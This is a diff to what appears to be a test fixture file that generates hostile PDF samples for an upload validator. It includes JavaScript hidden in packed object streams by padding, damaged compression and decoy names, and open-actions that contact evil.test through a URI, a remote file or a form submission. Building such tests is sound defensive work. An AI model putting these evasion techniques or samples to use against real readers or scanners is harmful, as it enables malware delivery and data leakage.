@@ -45,6 +45,54 @@ def _packed_otherwise() -> bytes:
     return before + b"/Filter /ASCIIHexDecode /Length %d >>\nstream\n%s>" % (len(packed) + 1, packed) + data[end:]
 
 
+def _damaged(data: bytes) -> bytes:
+    """Deflate data, and end it with what makes every reader stop there."""
+    packing = zlib.compressobj()
+    return packing.compress(data) + packing.flush(zlib.Z_SYNC_FLUSH) + b"\xff" * 4
+
+
+def _hexed(data: bytes) -> bytes:
+    return data.hex().encode() + b">"
+
+
+def _hidden(
+    *,
+    before: bytes = b"",
+    pack: Callable[[bytes], bytes] = zlib.compress,
+    told: bytes = b"/FlateDecode",
+    decoy: bytes = b"",
+) -> bytes:
+    """Return a PDF whose catalog, with a program in it, is packed behind `before`, perhaps beside another stream.
+
+    `decoy` is the dictionary of that one; in `told` can stand more than the filter.
+    """
+    head = before + b"1 0 "
+    packed = pack(head + b"<< /Type /Catalog /Pages 2 0 R /OpenAction " + _SCRIPT + b" >>")
+    container = b"<< /Type /ObjStm /N 1 /First %d /Filter %s /Length %d >>" % (len(head), told, len(packed))
+    objects = {
+        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
+        5: container + b"\nstream\n" + packed + b"\nendstream",
+        7: documents.stream(b"", decoy),
+    }
+    data, places = b"%PDF-1.7\n", dict[int, int]()
+    for number, body in objects.items():
+        places[number] = len(data)
+        data += b"%d 0 obj\n%s\nendobj\n" % (number, body)
+    rows = {number: (1, place) for number, place in places.items()} | {1: (2, 5), 6: (1, len(data))}
+    table = b"".join(struct.pack(">BIH", *rows.get(number, (0, 0)), 0) for number in range(8))
+    about = b"<< /Type /XRef /Size 8 /W [1 4 2] /Root 1 0 R /Length %d >>" % len(table)
+    return data + b"6 0 obj\n%s\nstream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (about, table, len(data))
+
+
+def _opening(action: bytes) -> Callable[[], bytes]:
+    return lambda: documents.pdf(catalog=b"/OpenAction " + action)
+
+
+def _annotated(annotation: bytes) -> Callable[[], bytes]:
+    return lambda: documents.pdf(page=b"/Annots [<< /Type /Annot /Rect [0 0 9 9] %s >>]" % annotation)
+
+
 def _embedded() -> bytes:
     more = {
         5: b"<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>",
@@ -202,6 +250,68 @@ HOSTILE: dict[str, Hostile] = {
         media_type=PDF,
         make=lambda: documents.sealed_pdf(b"", catalog=b"/OpenAction 5 0 R", more={5: _SCRIPT}),
         refusal=refusals.ActiveContent,
+    ),
+    "JavaScript in objects packed behind blanks": Hostile(
+        media_type=PDF, make=lambda: _hidden(before=b" " * 6000), refusal=refusals.ActiveContent
+    ),
+    "JavaScript in packed objects before damage": Hostile(
+        media_type=PDF, make=lambda: _hidden(pack=_damaged), refusal=refusals.ActiveContent
+    ),
+    "JavaScript in packed objects beside a name like theirs": Hostile(
+        media_type=PDF,
+        make=lambda: _hidden(pack=_hexed, told=b"/ASCIIHexDecode", decoy=b"/X /ObjStmX"),
+        refusal=refusals.ActiveContent,
+    ),
+    "JavaScript in packed objects beside an escaped slash": Hostile(
+        media_type=PDF,
+        make=lambda: _hidden(pack=_hexed, told=b"/ASCIIHexDecode", decoy=b"/X#2fObjStm 1"),
+        refusal=refusals.ActiveContent,
+    ),
+    "JavaScript in packed objects after a stream in a string": Hostile(
+        media_type=PDF,
+        make=lambda: _hidden(before=b" " * 6000, told=b"/FlateDecode /X (>>stream\n%s)" % zlib.compress(b"")),
+        refusal=refusals.ActiveContent,
+    ),
+    "an address that is opened at once": Hostile(
+        media_type=PDF, make=_opening(b"<< /S /URI /URI (http://evil.test) >>"), refusal=refusals.ActiveContent
+    ),
+    "an address that is opened at once, written elsewhere": Hostile(
+        media_type=PDF,
+        make=lambda: documents.pdf(
+            catalog=b"/OpenAction 5 0 R", more={5: b"<< /Type /Action /S /URI /URI (http://evil.test) >>"}
+        ),
+        refusal=refusals.ActiveContent,
+    ),
+    "a file elsewhere that is opened at once": Hostile(
+        media_type=PDF,
+        make=_opening(rb"<< /S /GoToR /F (\\\\evil.test\\a) /D [0 /Fit] >>"),
+        refusal=refusals.ActiveContent,
+    ),
+    "a form that is sent at once": Hostile(
+        media_type=PDF,
+        make=_opening(b"<< /S /SubmitForm /F << /FS /URL /F (http://evil.test) >> >>"),
+        refusal=refusals.ActiveContent,
+    ),
+    "what is done when a page is opened": Hostile(
+        media_type=PDF,
+        make=lambda: documents.pdf(page=b"/AA 5 0 R", more={5: b"<< /O << /S /Named /N /Print >> >>"}),
+        refusal=refusals.ActiveContent,
+    ),
+    "a film on a page": Hostile(
+        media_type=PDF,
+        make=_annotated(b"/Subtype /Movie /Movie << /F (a.avi) >> /A true"),
+        refusal=refusals.ActiveContent,
+    ),
+    "a body on a page that acts": Hostile(
+        media_type=PDF, make=_annotated(b"/Subtype /3D /3DD 5 0 R"), refusal=refusals.ActiveContent
+    ),
+    "a file on a page": Hostile(
+        media_type=PDF,
+        make=_annotated(b"/Subtype /FileAttachment /FS << /F (a.exe) /EF << /F 3 0 R >> >>"),
+        refusal=refusals.ActiveContent,
+    ),
+    "the word of streams 3,000,000 times": Hostile(
+        media_type=PDF, make=lambda: documents.pdf(more={5: b">>stream" * 3_000_000}), refusal=refusals.TooComplex
     ),
     "a PDF with a password": Hostile(
         media_type=PDF, make=lambda: documents.sealed_pdf("سرّ".encode()), refusal=refusals.EncryptedFile
